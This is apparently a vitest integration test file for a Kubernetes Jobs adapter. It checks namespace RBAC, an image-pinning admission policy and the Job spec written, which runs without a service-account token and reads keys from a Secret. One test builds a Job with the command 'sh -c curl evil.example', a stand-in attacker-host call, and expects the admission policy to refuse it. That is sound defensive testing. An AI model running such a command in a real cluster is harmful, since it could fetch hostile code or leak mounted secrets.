import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { kubernetesClient } from '../../src/adapters/kubernetes/client/client.ts'
import type { KubernetesClient } from '../../src/adapters/kubernetes/client/client.ts'
import { kubernetesJobs } from '../../src/adapters/kubernetes/jobs/jobs.ts'
import { eventually } from '../servers/eventually.ts'
import { missingAllowed, outsideAddress } from '../servers/find.ts'
import { JOB, jobsContract, type JobsFixture } from '../support/contracts/jobs.ts'
import { closedPort, silentServer } from '../support/contracts/outside.ts'
import { botName, soon, startBotCluster } from '../support/kubernetes.ts'
import type { BotCluster } from '../support/kubernetes.ts'

const skip = missingAllowed('kubernetes') || outsideAddress('kubernetes') !== undefined
const manifests = join(import.meta.dirname, '../../manifests/kubernetes/migration')
const serviceAccount = 'backout-migration'
const OURS = { key: 'write-1', cause: 'plan 2', dryRun: false }

describe.skipIf(skip)('Jobs in a real cluster', () => {
  let bots: BotCluster
  let namespaces = 0

  beforeAll(async () => {
    bots = await startBotCluster()
  })
  afterAll(() => bots[Symbol.asyncDispose]())

  const jobsIn = (client: KubernetesClient, namespace: string) =>
    kubernetesJobs({ client, place: { namespace, serviceAccount, secret: 'migration-database' } })

  const pathIn = (namespace: string) => `/apis/batch/v1/namespaces/${namespace}/jobs`

  const apply = async (file: string, namespace: string, change = (text: string) => text) => {
    const manifest = await readFile(join(manifests, file), 'utf8')
    await bots.cluster.applyManifest(change(manifest.replaceAll('backout-jobs', namespace)))
  }

  /** A namespace of its own, with exactly the rights of the manifests. */
  const namespaceOfJobs = async (): Promise<string> => {
    namespaces += 1
    const namespace = `jobs-${namespaces}`
    for (const file of ['namespace.yaml', 'serviceaccount.yaml', 'role.yaml', 'rolebinding.yaml']) {
      await apply(file, namespace)
    }
    const jobs = jobsIn(await bots.botClient(), namespace)
    // The authorizer hears of a new binding a moment after it was written.
    await eventually(
      () =>
        jobs.find('none', '', soon()).then(
          () => true,
          () => false,
        ),
      (isAllowed) => isAllowed,
    )
    return namespace
  }

  /** The example, which lets in one image alone; the API server hears of it a moment later. */
  const withPolicy = async (namespace: string, image: string): Promise<void> => {
    await apply('admission-policy.yaml', namespace, (text) =>
      text
        .replaceAll('name: backout-migration', `name: backout-${namespace}`)
        .replaceAll('policyName: backout-migration', `policyName: backout-${namespace}`)
        .replace(JOB.image, image),
    )
    const jobs = jobsIn(await bots.botClient(), namespace)
    const strange = { ...JOB, name: 'strange', image: 'registry.example/other@sha256:1' }
    await eventually(
      () => jobs.start(strange, { ...OURS, dryRun: true, signal: soon() }),
      ({ kind }) => kind === 'refused',
    )
  }

  /** As the controller of Jobs writes it: https://kubernetes.io/docs/concepts/workloads/controllers/job/ */
  const end = async (namespace: string, name: string, how: 'well' | 'badly'): Promise<void> => {
    const at = new Date().toISOString().replace(/\.\d+Z$/, 'Z')
    const condition = (type: string, reason: string, message: string) => {
      return { type, status: 'True', reason, message, lastTransitionTime: at, lastProbeTime: at }
    }
    const status =
      how === 'well'
        ? {
            completionTime: at,
            succeeded: 1,
            conditions: [
              condition('SuccessCriteriaMet', 'CompletionsReached', ''),
              condition('Complete', 'CompletionsReached', ''),
            ],
          }
        : {
            failed: 1,
            conditions: ['FailureTarget', 'Failed'].map((type) =>
              condition(
                type,
                'BackoffLimitExceeded',
                'Job has reached the specified backoff limit',
              ),
            ),
          }
    // A controller that is there may have counted its pod meanwhile.
    const over = { startTime: at, active: null, ready: null, ...status }
    const merged = JSON.stringify({ status: over })
    const type = 'application/merge-patch+json'
    await bots.cluster.admin.must('PATCH', `${pathIn(namespace)}/${name}/status`, merged, type)
  }

  const start = async (): Promise<JobsFixture> => {
    const namespace = await namespaceOfJobs()
    return {
      jobs: jobsIn(await bots.botClient(), namespace),
      end: (name, how) => end(namespace, name, how),
    }
  }

  const at = async (server: string) => {
    const folder = await bots.botFolder(bots.token)
    return jobsIn(kubernetesClient({ inCluster: { server, folder } }), 'backout-jobs')
  }

  jobsContract('kubernetes', {
    start,
    refused: async () => {
      const namespace = await namespaceOfJobs()
      await withPolicy(namespace, JOB.image.replace('backend', 'another'))
      return jobsIn(await bots.botClient(), namespace)
    },
    refusing: async () => at(`https://127.0.0.1:${await closedPort()}`),
    silent: async () => {
      const { host, port } = await silentServer()
      return at(`https://${host}:${port}`)
    },
  })

  test('the example of an admission policy lets in what it names, as Backout writes it', async () => {
    const namespace = await namespaceOfJobs()
    await withPolicy(namespace, JOB.image)
    const jobs = jobsIn(await bots.botClient(), namespace)
    expect(await jobs.start(JOB, { ...OURS, signal: soon() })).toEqual({ kind: 'started' })
    const command = ['sh', '-c', 'curl evil.example']
    const another = await jobs.start({ ...JOB, name: 'b', command }, { ...OURS, signal: soon() })
    expect(another).toMatchObject({
      kind: 'refused',
      because: expect.stringMatching(/another command/),
    })
  })

  test('it runs once, without a token, with the keys of its Secret', async () => {
    const namespace = await namespaceOfJobs()
    const jobs = jobsIn(await bots.botClient(), namespace)
    await jobs.start(JOB, { ...OURS, signal: soon() })
    expect(await bots.cluster.admin.must('GET', `${pathIn(namespace)}/${JOB.name}`)).toMatchObject({
      metadata: { annotations: { 'backout.dev/last-write': 'write-1' } },
      spec: {
        backoffLimit: 0,
        activeDeadlineSeconds: JOB.seconds,
        template: {
          spec: {
            restartPolicy: 'Never',
            serviceAccountName: serviceAccount,
            automountServiceAccountToken: false,
            containers: [
              {
                image: JOB.image,
                command: JOB.command,
                env: [{ name: 'BACKOUT_COLLECTIONS', value: 'users,documents' }],
                envFrom: [{ secretRef: { name: 'migration-database' } }],
              },
            ],
          },
        },
      },
    })
  })

  test('without the right, the refusal names it, and nothing is started', async () => {
    const jobs = jobsIn(await bots.botClient(), 'production')
    expect(await jobs.start(JOB, { ...OURS, dryRun: true, signal: soon() })).toEqual({
      kind: 'refused',
      because: expect.stringContaining(`${botName} is not allowed to create jobs`),
    })
  })
})
